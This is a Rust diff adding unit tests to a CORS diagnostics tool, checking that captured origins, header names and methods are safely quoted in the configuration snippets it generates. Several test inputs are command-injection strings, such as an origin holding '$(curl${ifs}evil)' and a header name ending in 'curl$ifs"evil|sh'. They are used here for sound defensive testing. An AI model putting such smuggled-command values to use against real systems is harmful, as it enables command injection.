@@ -364,6 +364,162 @@ fn wants_table() {
         ("304 revalidation", ex("GET", "https://api.example.net/x", 304, &[ORIGIN], &[("ETag", "\"1\"")]), false),
     ];
     for (name, e, want) in cases {
-        assert_eq!(wants(e), *want, "{name}");
+        assert_eq!(wants(e) || crate::diagnose::transport::wants(e), *want, "{name}");
     }
+}
+
+// ─────────────── capture values in snippets stay quoted (issue 8 item 1) ───────────────
+
+/// The findings of exchange `i` (unranked, as `check` pushes them).
+fn findings(cap: &Capture<'_>, i: usize) -> Vec<Finding> {
+    let corr = Correlation::build(cap);
+    let ctx = Ctx::new(cap, &corr, i, &cap.exchanges[i]);
+    let mut out = Vec::new();
+    check(&ctx, Facts::build(&ctx).as_ref(), &mut out);
+    out
+}
+
+/// The snippet in `lang` of the finding `id` among `found`.
+fn snippet(found: &[Finding], id: FindingId, lang: &str) -> String {
+    let f = found.iter().find(|f| f.id == id).unwrap_or_else(|| panic!("no {id:?} in {found:?}"));
+    f.fix
+        .snippets
+        .iter()
+        .find(|s| s.lang == lang)
+        .map(|s| s.code.clone())
+        .unwrap_or_else(|| panic!("no {lang} snippet"))
+}
+
+/// A serialized origin (WHATWG hosts may hold `'`, `"`, `$`, `(`, `{`) that would run a command
+/// if pasted raw into a shell-like or interpolating context.
+const HOSTILE_ORIGIN: &str = "https://a'$(curl${ifs}evil)\"x.example";
+
+#[test]
+fn hostile_origin_is_quoted_in_every_snippet() {
+    assert!(matches!(
+        hc::request_origin(&Headers(vec![Header::new("Origin", HOSTILE_ORIGIN)])),
+        hc::RequestOrigin::Origin(_)
+    ));
+    let cap = Capture {
+        exchanges: vec![ex(
+            "GET",
+            "https://api.example.net/v1/me",
+            200,
+            &[("Origin", HOSTILE_ORIGIN), MODE, ("Cookie", "sid=1")],
+            &[("Access-Control-Allow-Origin", "https://other.example"), ("Access-Control-Allow-Credentials", "true")],
+        )],
+        ..Default::default()
+    };
+    let found = findings(&cap, 0);
+    let id = FindingId::CorsAllowOriginMismatch;
+    let js = crate::quote::c_string(HOSTILE_ORIGIN);
+    assert!(snippet(&found, id, "express").contains(&format!("origin: [{js}]")));
+    assert!(snippet(&found, id, "aspnet").contains(&format!(".WithOrigins({js})")));
+    assert!(snippet(&found, id, "spring").contains(&format!("List.of({js})")));
+    // nginx cannot quote `$`: the placeholder stands in.
+    let nginx = snippet(&found, id, "nginx");
+    assert!(nginx.contains("default \"\"; <origin> $http_origin;") && !nginx.contains("evil"), "{nginx}");
+    // Apache: the regex's `"` escaped, its backslashes doubled.
+    let apache = snippet(&found, id, "apache");
+    assert!(
+        apache.contains(
+            "SetEnvIf Origin \"^https://a'\\\\$\\\\(curl\\\\$\\\\{ifs\\\\}evil\\\\)\\\"x\\\\.example$\" CORS_ORIGIN"
+        ),
+        "{apache}"
+    );
+    // API Gateway literals have no escape.
+    let yaml = snippet(&found, id, "yaml");
+    assert!(yaml.contains("Access-Control-Allow-Origin: \"'<origin>'\"") && !yaml.contains("evil"), "{yaml}");
+}
+
+#[test]
+fn plain_origin_keeps_the_templates_quote_style() {
+    let cap = Capture {
+        exchanges: vec![ex(
+            "GET",
+            "https://api.example.net/v1/me",
+            200,
+            &[ORIGIN, MODE, ("Cookie", "sid=1")],
+            &[("Access-Control-Allow-Origin", "https://other.example"), ("Access-Control-Allow-Credentials", "true")],
+        )],
+        ..Default::default()
+    };
+    let found = findings(&cap, 0);
+    let id = FindingId::CorsAllowOriginMismatch;
+    assert!(snippet(&found, id, "express").contains("origin: ['https://app.example.com']"));
+    assert!(snippet(&found, id, "nginx").contains("\"https://app.example.com\" $http_origin;"));
+    assert!(snippet(&found, id, "apache").contains("SetEnvIf Origin \"^https://app\\.example\\.com$\""));
+    assert!(snippet(&found, id, "yaml").contains("\"'https://app.example.com'\""));
+}
+
+/// A preflight from `ORIGIN` asking for `method` and `headers`, refused by its allow-lists.
+fn refused_preflight(method: &'static str, headers: &'static str) -> Capture<'static> {
+    Capture {
+        exchanges: vec![ex(
+            "OPTIONS",
+            "https://api.example.net/v1/me",
+            204,
+            &[ORIGIN, ("Access-Control-Request-Method", method), ("Access-Control-Request-Headers", headers)],
+            &[
+                ("Access-Control-Allow-Origin", "https://app.example.com"),
+                ("Access-Control-Allow-Methods", "GET, POST, PUT"),
+                ("Access-Control-Allow-Headers", "Authorization, Content-Type"),
+            ],
+        )],
+        ..Default::default()
+    }
+}
+
+#[test]
+fn hostile_header_name_is_quoted_in_every_snippet() {
+    let cap = refused_preflight("PUT", "x-a';curl$ifs\"evil|sh, x-b\u{7}c");
+    let found = findings(&cap, 0);
+    let id = FindingId::CorsRequestHeaderNotAllowed;
+    let name = crate::quote::c_string("X-A';curl$ifs\"evil|sh");
+    assert!(
+        snippet(&found, id, "express").contains(&format!("allowedHeaders: ['Authorization', 'Content-Type', {name}"))
+    );
+    assert!(snippet(&found, id, "aspnet").contains(&format!("\"Content-Type\", {name}")));
+    assert!(snippet(&found, id, "spring").contains(&name));
+    assert_eq!(snippet(&found, id, "nginx"), "add_header Access-Control-Allow-Headers <header names> always;");
+    // A control character has no place in a header line: that name becomes a placeholder.
+    let http = snippet(&found, id, "http");
+    assert!(!http.contains('\n') && http.ends_with(", <header name>"), "{http:?}");
+}
+
+#[test]
+fn hostile_method_is_quoted_in_every_snippet() {
+    let cap = refused_preflight("PATCH'$x\"", "authorization");
+    let found = findings(&cap, 0);
+    let id = FindingId::CorsMethodNotAllowed;
+    let m = crate::quote::c_string("PATCH'$x\"");
+    assert!(snippet(&found, id, "express").contains(&format!("methods: ['GET', 'POST', {m}]")));
+    assert!(snippet(&found, id, "aspnet").contains(&format!("p.WithMethods(\"GET\", \"POST\", {m});")));
+    assert_eq!(snippet(&found, id, "nginx"), "add_header Access-Control-Allow-Methods <methods> always;");
+    assert_eq!(snippet(&found, id, "http"), "Access-Control-Allow-Methods: GET, POST, PATCH'$x\"");
+}
+
+#[test]
+fn hostile_values_in_the_preflight_before_auth_snippets() {
+    let cap = Capture {
+        exchanges: vec![ex(
+            "OPTIONS",
+            "https://api.example.net/v1/me",
+            401,
+            &[
+                ("Origin", HOSTILE_ORIGIN),
+                ("Access-Control-Request-Method", "PUT\"; evil"),
+                ("Access-Control-Request-Headers", "authorization"),
+            ],
+            &[("WWW-Authenticate", "Basic realm=\"api\"")],
+        )],
+        ..Default::default()
+    };
+    let found = findings(&cap, 0);
+    let id = FindingId::CorsPreflightBlockedByAuth;
+    let nginx = snippet(&found, id, "nginx");
+    assert!(nginx.contains("<origin> $http_origin;"), "{nginx}");
+    assert!(nginx.contains("Access-Control-Allow-Methods \"GET, POST, PUT\\\"; evil\" always;"), "{nginx}");
+    let express = snippet(&found, id, "express");
+    assert!(express.contains(&format!("origin: [{}]", crate::quote::c_string(HOSTILE_ORIGIN))), "{express}");
 }
